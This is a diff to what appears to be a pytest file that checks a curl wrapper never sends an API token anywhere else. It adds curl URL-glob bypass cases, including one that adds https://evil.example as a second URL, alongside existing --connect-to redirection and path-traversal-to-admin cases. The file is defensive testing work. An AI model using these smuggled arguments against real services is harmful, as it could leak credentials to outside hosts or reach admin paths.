@@ -84,6 +84,9 @@ def test_curl_calls_the_api(erp, sainet):
     ["--cacert", "/tmp/x", "--connect-to", "::evil.example:443", "{api}/ADR02/1"],
     ["{api}/..;/admin"],
     ["{api}/.%2e%3bx/admin"],
+    ["{api}/{{..,x}}/admin"],  # curl's globs make another URL of it
+    ["{api}/[.-.][.-.]/admin"],
+    ["{{{api},https://evil.example}}/x"],
     ["-o", "out"],
 ])
 def test_curl_takes_the_token_nowhere_else(erp, sainet, args):
